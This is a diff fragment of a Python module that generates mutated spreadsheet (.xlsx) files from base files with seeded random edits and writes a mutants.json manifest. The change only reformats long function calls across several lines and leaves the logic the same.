@@ -942,8 +1172,14 @@ def generate(bases: dict[str, Path], out_dir: Path, schema: Schema, *, seed: int
         for pick in range(max(variants, 2 * len(labels))):
             label = labels[pick % len(labels)]
             rng = random.Random(f"{seed}:{n}")
-            m = _make(bases[label], out_dir / f"{n:04d}-{kind}.xlsx", label, kind,
-                      [lambda pkg, rng, edit=edit, pick=pick: edit(pkg, rng, Aim(schema, pick))], rng)
+            m = _make(
+                bases[label],
+                out_dir / f"{n:04d}-{kind}.xlsx",
+                label,
+                kind,
+                [lambda pkg, rng, edit=edit, pick=pick: edit(pkg, rng, Aim(schema, pick))],
+                rng,
+            )
             n += 1
             if m is not None:
                 mutants.append(m)
@@ -954,13 +1190,20 @@ def generate(bases: dict[str, Path], out_dir: Path, schema: Schema, *, seed: int
         rng = random.Random(f"{seed}:{n}")
         label = rng.choice(labels)
         chosen = rng.choices(kinds, weights, k=rng.choice([1, 1, 1, 2, 3]))
-        m = _make(bases[label], out_dir / f"{n:04d}-random.xlsx", label, "random: " + "+".join(chosen),
-                  [RANDOM[k] for k in chosen], rng)
+        m = _make(
+            bases[label],
+            out_dir / f"{n:04d}-random.xlsx",
+            label,
+            "random: " + "+".join(chosen),
+            [RANDOM[k] for k in chosen],
+            rng,
+        )
         n += 1
         if m is not None:
             mutants.append(m)
-    (out_dir / "mutants.json").write_text(json.dumps([{**asdict(m), "path": m.path.name} for m in mutants], indent=1),
-                                          "utf-8")
+    (out_dir / "mutants.json").write_text(
+        json.dumps([{**asdict(m), "path": m.path.name} for m in mutants], indent=1), "utf-8"
+    )
     return mutants
 
 
@@ -969,4 +1212,7 @@ def load_manifest(folder: Path) -> dict[str, Mutant]:
     manifest = folder / "mutants.json"
     if not manifest.exists():
         return {}
-    return {m["path"]: Mutant(**{**m, "path": folder / m["path"]}) for m in json.loads(manifest.read_text("utf-8"))}
+    return {
+        m["path"]: Mutant(**{**m, "path": folder / m["path"]})
+        for m in json.loads(manifest.read_text("utf-8"))
+    }
